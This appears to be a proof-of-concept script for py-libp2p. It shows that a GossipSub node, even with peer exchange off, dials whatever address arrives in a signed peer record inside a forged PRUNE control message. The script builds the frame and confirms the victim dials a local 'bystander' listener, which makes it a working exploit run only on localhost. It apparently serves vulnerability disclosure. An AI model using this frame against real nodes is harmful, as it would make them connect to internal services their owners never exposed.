"""Any peer can make a GossipSub node connect to any address and port, by a PRUNE of any topic."""

import sys

import trio
from libp2p import new_host
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.peer.envelope import seal_record
from libp2p.peer.id import ID
from libp2p.peer.peer_record import PeerRecord
from libp2p.peer.peerinfo import PeerInfo
from libp2p.pubsub.gossipsub import GossipSub
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.pubsub import Pubsub
from libp2p.tools.anyio_service import background_trio_service
from libp2p.utils import encode_varint_prefixed
from multiaddr import Multiaddr

MESHSUB = "/meshsub/1.1.0"


def build_frame(port: int) -> bytes:
    keys = create_new_key_pair()
    peer = ID.from_pubkey(keys.public_key)
    record = PeerRecord(peer, [Multiaddr(f"/ip4/127.0.0.1/tcp/{port}")])
    envelope = seal_record(record, keys.private_key).marshal_envelope()
    exchanged = rpc_pb2.PeerInfo(peerID=peer.to_bytes(), signedPeerRecord=envelope)
    prune = rpc_pb2.ControlPrune(topicID="a topic nobody has", peers=[exchanged])
    rpc = rpc_pb2.RPC(control=rpc_pb2.ControlMessage(prune=[prune]))
    return encode_varint_prefixed(rpc.SerializeToString())


async def main():
    listen = [Multiaddr("/ip4/127.0.0.1/tcp/0")]
    victim, attacker = new_host(), new_host()
    # Peer exchange is not asked for: do_px is False by default.
    router = GossipSub([MESHSUB], 6, 4, 12, heartbeat_interval=1)
    pubsub = Pubsub(victim, router)
    attacker.set_stream_handler(MESHSUB, lambda _stream: trio.sleep_forever())
    # Some service in the victim's network that the attacker cannot reach itself.
    [bystander] = await trio.open_tcp_listeners(0, host="127.0.0.1")
    was_dialled = False
    async with victim.run(listen), attacker.run(listen):
        async with background_trio_service(pubsub), background_trio_service(router):
            await pubsub.wait_until_ready()
            await attacker.connect(PeerInfo(victim.get_id(), victim.get_addrs()))
            stream = await attacker.new_stream(victim.get_id(), [MESHSUB])
            await stream.write(build_frame(bystander.socket.getsockname()[1]))
            with trio.move_on_after(10):
                connection = await bystander.accept()
                was_dialled = True
                print("the victim dialled the bystander and said", await connection.receive_some())
                await connection.aclose()
    return 0 if was_dialled else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
